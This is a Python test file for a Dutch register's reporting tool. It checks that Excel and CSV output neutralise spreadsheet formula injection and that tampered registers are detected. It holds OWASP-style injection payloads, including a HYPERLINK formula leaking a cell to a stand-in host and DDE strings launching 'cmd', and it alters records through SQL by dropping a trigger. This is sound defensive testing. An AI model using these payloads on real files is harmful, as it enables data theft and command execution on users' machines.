"""The report's files and its honesty about its input: the Excel workbook read back with
openpyxl, the CSV's numeric columns, formula injection from register text, and a malformed or
tampered register through ``verbind report``."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.settings import Settings
from bot.storage.backends import open_register
from bot.storage.chain import record_mac
from dialogs.register import RECORD_FIELDS, ConsultationRecord
from dialogs.report import (
    CSV_HEADER,
    MASK,
    SHEETS,
    SHIELDED,
    TOO_FEW,
    Report,
    build_report,
    cell_text,
    render_csv,
    render_html,
    render_text,
    render_xlsx,
)
from knowledge import KnowledgeBase
from tests.report_year import generate_year, year_jgz
from tests.test_report import run_cli

YEAR = (date(2026, 1, 1), date(2026, 12, 31))
REASONS = {MASK, TOO_FEW, SHIELDED, "geen"}
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)
"""Register text a spreadsheet would run (OWASP's CSV-injection examples and variants)."""


@pytest.fixture(scope="module")
def report(shipped: KnowledgeBase) -> Report:
    """2026 over the generated register."""
    year = generate_year(year_jgz(shipped))
    return build_report(year.records, start=YEAR[0], end=YEAR[1], knowledge=shipped)


def workbook(report: Report) -> Any:
    """The report's workbook read back with openpyxl."""
    return load_workbook(io.BytesIO(render_xlsx(report)))


# -- the workbook ----------------------------------------------------------------------------------


def test_the_workbook_has_a_sheet_and_a_chart_per_view(report: Report) -> None:
    """One sheet per view, each with its chart, and a sheet that explains the counting."""
    book = workbook(report)
    assert book.sheetnames == list(SHEETS)
    for name in SHEETS[:-1]:
        assert len(book[name]._charts) == 1, name
    rules = " ".join(str(c.value) for c in book["Toelichting"]["B"] if c.value)
    assert "Aantallen van 1 tot en met 4 staan er als <5" in rules
    assert "werktijd" in rules


def test_the_workbook_holds_numbers_as_numbers(report: Report) -> None:
    """Counts are whole numbers, shares fractions formatted as percent, durations fractions of a
    day formatted [h]:mm; a suppressed figure is its reason, never a number."""
    book = workbook(report)
    partner = book["Per partner"]
    assert [c.value for c in partner[1]] == [
        "Code",
        "Partner",
        "Aantal",
        "Waarvan verzoeken",
        "Vorige periode",
    ]
    for row in partner.iter_rows(min_row=2, min_col=3, max_col=5):
        for cell in row:
            assert isinstance(cell.value, int) or cell.value in REASONS, cell.value
    cells = {c.value: row for row in book["Overzicht"].iter_rows() for c in row[:1]}
    median = cells["Mediane tijd tot oppakken (werktijd)"][1]
    # Stored as a number: openpyxl reads a number formatted [h]:mm back as a duration.
    assert isinstance(median.value, timedelta)
    assert median.number_format == "[h]:mm"
    assert median.value.total_seconds() == 60 * report.current.pickup.median_working
    pickups = book["Oppaktijd per kwartaal"]
    assert pickups["C1"].value == "Mediaan (werktijd)"
    assert any(isinstance(c.value, timedelta) for c in pickups["C"][1:])


def test_the_workbook_shows_a_share_as_a_percentage(shipped: KnowledgeBase) -> None:
    """The share of meldingen with terugkoppeling is a fraction with a percent format."""
    records = [_record(f"M{i}", kind="melding") for i in range(10)]
    records += [_record(f"T{i}", kind="terugkoppeling") for i in range(6)]
    book = workbook(build_report(records, start=YEAR[0], end=YEAR[1], knowledge=shipped))
    rows = {row[0].value: row for row in book["Overzicht"].iter_rows()}
    share = rows["Aandeel meldingen met terugkoppeling"][1]
    assert (share.value, share.number_format) == (0.6, "0%")


# -- formula injection -----------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "gewoon", "VB-AB12-CD34", "-", ""])
def test_cell_text_neutralises_formulas(text: str) -> None:
    """Text that a spreadsheet would read as a formula gets a leading apostrophe; other text
    stays as it is."""
    safe = cell_text(text)
    assert safe.lstrip(" ")[:1] not in {"=", "+", "-", "@", "\t", "\r", "\uff1d"}
    if text[:1] not in "=+-@\t\r" and not text.lstrip().startswith(("=", "\uff1d")):
        assert safe == text


def hostile_report(shipped: KnowledgeBase) -> Report:
    """A report whose partners and regions are register text written to attack a spreadsheet."""
    records = [
        _record(f"H{i}{j}", partner=text, region=text)
        for i, text in enumerate(HOSTILE)
        for j in range(5)
    ]
    return build_report(records, start=YEAR[0], end=YEAR[1], knowledge=shipped)


def test_no_workbook_cell_starts_a_formula(shipped: KnowledgeBase) -> None:
    """Register text reaches the workbook as text: no formula cell, no cell that starts like one."""
    book = workbook(hostile_report(shipped))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    seen.append(cell.value)
                    assert cell.value.lstrip(" ")[:1] not in set("=+-@\t\r\uff1d")
    assert any(value.startswith("'=HYPERLINK") for value in seen)


def test_no_csv_cell_starts_a_formula(shipped: KnowledgeBase) -> None:
    """Register text reaches the CSV neutralised, in every text column."""
    text = render_csv(hostile_report(shipped))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert all(cell.lstrip(" ")[:1] not in set("=+@\t\r\uff1d") for cell in cells)
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]
    assert "'+cmd|' /C calc'!A0" in cells


def _number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def test_csv_numeric_columns_hold_only_numbers(report: Report) -> None:
    """waarde, verzoeken and vorige are numbers or empty; the unit and the reason are text of
    their own."""
    rows = list(
        csv.DictReader(io.StringIO(render_csv(report).removeprefix("\ufeff")), delimiter=";")
    )
    assert tuple(rows[0]) == CSV_HEADER
    for row in rows:
        for column in ("waarde", "verzoeken", "vorige"):
            assert row[column] == "" or _number(row[column]), (row["code"], column, row[column])
        assert row["eenheid"] in {"aantal", "procent", "minuten"}, row
    assert any(row["toelichting"] == "waarde <5" for row in rows)
    assert any(row["eenheid"] == "minuten" and row["waarde"] for row in rows)


# -- honest about its input ------------------------------------------------------------------------


def registered(tmp_path: Path, count: int = 12) -> None:
    """A register with ``count`` good records in 2026."""
    register = open_register(Settings(data_dir=tmp_path))
    for i in range(count):
        register.append_now(_record(f"VB-GOOD-{i:04d}"))
    register.close()


def append_raw(tmp_path: Path, values: dict[str, Any]) -> None:
    """Append a row as someone with SQL access and the key would: any values, a valid chain."""
    key = bytes.fromhex((tmp_path / "register.key").read_text().strip())
    db = sqlite3.connect(tmp_path / "register.sqlite3")
    seq, prev = db.execute("SELECT seq, mac FROM consultations ORDER BY seq DESC").fetchone()
    fields = {**_fields(), **values}
    record = ConsultationRecord.__new__(ConsultationRecord)
    for name, value in fields.items():
        object.__setattr__(record, name, value)
    mac = record_mac(key, seq + 1, record, prev)
    columns = ", ".join(fields)
    marks = ", ".join("?" for _ in fields)
    db.execute(
        f"INSERT INTO consultations (seq, {columns}, prev_mac, mac) VALUES (?, {marks}, ?, ?)",
        (seq + 1, *fields.values(), prev, mac),
    )
    db.commit()
    db.close()
    (tmp_path / "register.head").write_text(f"{seq + 1}:{mac}\n")


def _fields() -> dict[str, Any]:
    record = _record("VB-BAD0-0000")
    return {name: getattr(record, name) for name in RECORD_FIELDS}


@pytest.mark.parametrize("output", ["text", "csv", "html", "xlsx"])
def test_malformed_rows_are_skipped_with_one_dutch_line(tmp_path: Path, output: str) -> None:
    """Rows with a bad time, an unknown kind or a formula as partner are skipped: one Dutch
    line names them and how many, the exit is non-zero, no traceback; the report says it too."""
    registered(tmp_path)
    append_raw(tmp_path, {"time": "gisteren", "reference": "VB-BAD1-0001"})
    append_raw(tmp_path, {"kind": "roddel", "reference": "VB-BAD2-0002"})
    append_raw(tmp_path, {"partner": '=HYPERLINK("x")', "reference": "VB-BAD3-0003"})
    verified = run_cli(tmp_path, "register", "verify")
    assert verified.returncode == 0, verified.stderr  # the chain itself is intact
    out = tmp_path / f"rapport.{output}"
    result = run_cli(
        tmp_path, "report", "--from", "2026-01-01", "--to", "2026-12-31", "--format", output,
        "--out", str(out),
    )  # fmt: skip
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1
    assert "Traceback" not in result.stderr
    line = result.stderr
    assert "3 records overgeslagen" in line
    for reason in ("een ongeldige tijd", "een onbekende soort", "een ongeldige partner"):
        assert f"1 met {reason}" in line
    assert "eerste: record 13" in line
    if output == "xlsx":
        book = load_workbook(out)
        assert "3 records overgeslagen" in str(book["Overzicht"]["A6"].value)
    else:
        written = out.read_text(encoding="utf-8")
        assert "3 records overgeslagen" in written
        assert "HYPERLINK" not in written
    assert "12" in run_cli(tmp_path, "report", "--from", "2026-01-01", "--to", "2026-12-31").stdout


def test_a_tampered_chain_gives_one_dutch_line(tmp_path: Path) -> None:
    """A record changed with SQL (past the triggers) is named in one Dutch line, exit 1, and the
    report still shows what it counted, with the same warning."""
    registered(tmp_path)
    db = sqlite3.connect(tmp_path / "register.sqlite3")
    db.execute("DROP TRIGGER consultations_append_only")
    db.execute("UPDATE consultations SET kind = 'melding' WHERE seq = 5")
    db.commit()
    db.close()
    out = tmp_path / "rapport.html"
    result = run_cli(
        tmp_path, "report", "--from", "2026-01-01", "--to", "2026-12-31", "--format", "html",
        "--out", str(out),
    )  # fmt: skip
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1
    assert "het register is niet in orde (record 5 (VB-GOOD-0004) is gewijzigd)" in result.stderr
    assert "0 records overgeslagen" in result.stderr
    assert "Traceback" not in result.stderr
    assert "record 5 (VB-GOOD-0004) is gewijzigd" in out.read_text(encoding="utf-8")


def test_a_workbook_is_not_written_to_a_terminal(tmp_path: Path) -> None:
    """Written to a file with --out, the workbook is a zip that openpyxl reads."""
    registered(tmp_path)
    out = tmp_path / "jaar.xlsx"
    result = run_cli(
        tmp_path, "report", "--from", "2026-01-01", "--to", "2026-12-31", "--format", "xlsx",
        "--out", str(out),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    book = load_workbook(out)
    sheet: Worksheet = book["Overzicht"]
    assert any(c.value == 12 for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--regio", "VT99"), "regio 'VT99' bestaat niet"),
        (("--organisatie", "nergens"), "organisatie 'nergens' bestaat niet"),
    ],
)
def test_unknown_filters_are_refused(tmp_path: Path, args: tuple[str, ...], message: str) -> None:
    """A region or organisation that does not exist is one Dutch line and exit 2."""
    registered(tmp_path)
    result = run_cli(tmp_path, "report", "--from", "2026-01-01", "--to", "2026-12-31", *args)
    assert result.returncode == 2
    assert message in result.stderr


def test_every_format_says_what_was_wrong(shipped: KnowledgeBase) -> None:
    """The warning stands in the text, the CSV-free formats and the workbook alike."""
    warning = "Let op: 2 records overgeslagen (2 met een ongeldige tijd; eerste: record 3)."
    report = build_report(
        [_record("A")], start=YEAR[0], end=YEAR[1], knowledge=shipped, warning=warning
    )
    assert warning in render_text(report).replace("\n", " ")
    assert warning in render_html(report)
    assert load_workbook(io.BytesIO(render_xlsx(report)))["Overzicht"]["A6"].value == warning


def _record(
    reference: str,
    *,
    kind: str = "advies-veilig-thuis",
    partner: str = "veilig-thuis-utrecht",
    region: str | None = "VT20",
) -> ConsultationRecord:
    return ConsultationRecord(
        reference=reference,
        time="2026-05-12T10:00Z",
        kind=kind,  # type: ignore[arg-type]
        partner=partner,
        region=region,
        direction="partner-jgz" if kind == "terugkoppeling" else "jgz-partner",
        channel="web",
        content_version="2026.1",
        status="vastgelegd",
    )
